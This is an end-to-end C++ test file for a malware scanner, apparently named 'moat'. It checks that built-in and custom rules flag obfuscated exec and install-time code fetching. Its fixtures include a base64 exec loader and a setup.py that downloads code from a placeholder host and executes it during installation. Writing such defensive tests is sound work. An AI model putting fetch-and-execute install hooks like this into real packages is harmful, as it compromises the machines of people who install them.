// End-to-end: `moat scan` and `moat inspect` run the rule engine (category "rules") beside the
// code checks: the built-in pack by default, --rules adds rule files, --no-builtin-rules and
// --bandit-compat leave the rules out.
#include <gtest/gtest.h>
#include <nlohmann/json.hpp>

#include <unistd.h>

#include <filesystem>
#include <fstream>
#include <string>

#include "support/run_moat.hpp"

namespace fs = std::filesystem;

namespace {

using moat::testing::run_captured;
using moat::testing::run_moat;

fs::path fresh_directory(const std::string& name) {
  const auto directory = fs::temp_directory_path() / ("moat-e2e-rules-" + name + "-" + std::to_string(::getpid()));
  fs::remove_all(directory);
  fs::create_directories(directory);
  return directory;
}

nlohmann::json findings_of(const std::string& output) {
  const auto start = output.find('{');
  if (start == std::string::npos) return nlohmann::json::array();
  const auto json = nlohmann::json::parse(output.substr(start), nullptr, false);
  return json.is_discarded() ? nlohmann::json::array() : json["findings"];
}

// "RULE path:line" for each finding of category "rules".
std::vector<std::string> rule_hits(const std::string& output) {
  std::vector<std::string> hits;
  for (const auto& finding : findings_of(output))
    if (finding["category"] == "rules")
      hits.push_back(finding["rule_id"].get<std::string>() + " " + finding["path"].get<std::string>() + ":" +
                     std::to_string(finding["line"].get<int>()));
  return hits;
}

bool has(const std::vector<std::string>& hits, const std::string& wanted) {
  return std::ranges::find(hits, wanted) != hits.end();
}

fs::path malicious_project() {
  const auto project = fresh_directory("project");
  std::ofstream(project / "loader.py") << "import base64\n"
                                          "payload = 'cHJpbnQoJ2hpJyk='\n"
                                          "exec(base64.b64decode(payload))\n";
  return project;
}

TEST(ScanRules, BuiltinPackRunsByDefault) {
  const auto project = malicious_project();
  const auto result = run_moat("scan --format json '" + project.string() + "'");
  EXPECT_EQ(result.exit_code, 1) << result.out;
  EXPECT_TRUE(has(rule_hits(result.out), "MOAT-MAL001 " + (project / "loader.py").string() + ":3")) << result.out;
}

TEST(ScanRules, NoBuiltinRulesLeavesThePackOut) {
  const auto project = malicious_project();
  const auto result = run_moat("scan --no-builtin-rules --format json '" + project.string() + "'");
  EXPECT_TRUE(rule_hits(result.out).empty()) << result.out;
  // The code checks still run.
  EXPECT_FALSE(findings_of(result.out).empty()) << result.out;
}

TEST(ScanRules, RulesOptionAddsACustomRuleAndSelectFiltersByRuleId) {
  const auto project = malicious_project();
  const auto rule = project.parent_path() / ("moat-e2e-rules-custom-" + std::to_string(::getpid()) + ".yaml");
  std::ofstream(rule) << "rules:\n"
                         "  - id: no-b64decode\n"
                         "    message: base64 decoding\n"
                         "    severity: WARNING\n"
                         "    languages: [python]\n"
                         "    pattern: base64.b64decode(...)\n";
  const auto result =
      run_moat("scan --no-builtin-rules --rules '" + rule.string() + "' --format json '" + project.string() + "'");
  EXPECT_EQ(rule_hits(result.out), std::vector<std::string>{"no-b64decode " + (project / "loader.py").string() + ":3"})
      << result.out;
  const auto selected = run_moat("scan --rules '" + rule.string() + "' --select no-b64decode --format json '" +
                                 project.string() + "'");
  EXPECT_EQ(rule_hits(selected.out), rule_hits(result.out)) << selected.out;
  EXPECT_EQ(findings_of(selected.out).size(), 1u) << selected.out;
  fs::remove(rule);
}

TEST(ScanRules, BanditCompatRunsNoRules) {
  const auto project = malicious_project();
  const auto compat = run_moat("scan --bandit-compat --format json '" + project.string() + "'");
  const auto no_rules = run_moat("scan --bandit-compat --no-builtin-rules --format json '" + project.string() + "'");
  EXPECT_TRUE(rule_hits(compat.out).empty()) << compat.out;
  EXPECT_EQ(findings_of(compat.out), findings_of(no_rules.out));
  const auto bandit = run_moat("bandit -f json '" + (project / "loader.py").string() + "'");
  EXPECT_EQ(bandit.out.find("MOAT-MAL"), std::string::npos) << bandit.out;
}

TEST(ScanRules, SdistSetupPyThatDownloadsAndExecutesIsReportedInsideTheArchive) {
  const auto work = fresh_directory("sdist");
  fs::create_directories(work / "x-1.0");
  std::ofstream(work / "x-1.0/PKG-INFO") << "Metadata-Version: 2.1\nName: x\nVersion: 1.0\n";
  std::ofstream(work / "x-1.0/setup.py") << "import urllib.request\n"
                                            "from setuptools import setup\n"
                                            "\n"
                                            "code = urllib.request.urlopen('https://example.invalid/x').read()\n"
                                            "exec(code)\n"
                                            "setup(name='x', version='1.0')\n";
  const auto packed = run_captured("cd '" + work.string() + "' && tar -czf x-1.0.tar.gz x-1.0 2>&1");
  ASSERT_EQ(packed.exit_code, 0) << packed.out;
  const std::string sdist = (work / "x-1.0.tar.gz").string();
  for (const std::string command : {"scan", "inspect"}) {
    const auto result = run_moat(command + " --format json '" + sdist + "'");
    const auto hits = rule_hits(result.out);
    EXPECT_TRUE(has(hits, "MOAT-MAL002 " + sdist + "!/x-1.0/setup.py:5")) << command << "\n" << result.out;
    EXPECT_TRUE(has(hits, "MOAT-MAL020 " + sdist + "!/x-1.0/setup.py:4")) << command << "\n" << result.out;
  }
  const auto without = run_moat("inspect --no-builtin-rules --format json '" + sdist + "'");
  EXPECT_TRUE(rule_hits(without.out).empty()) << without.out;
}

}  // namespace
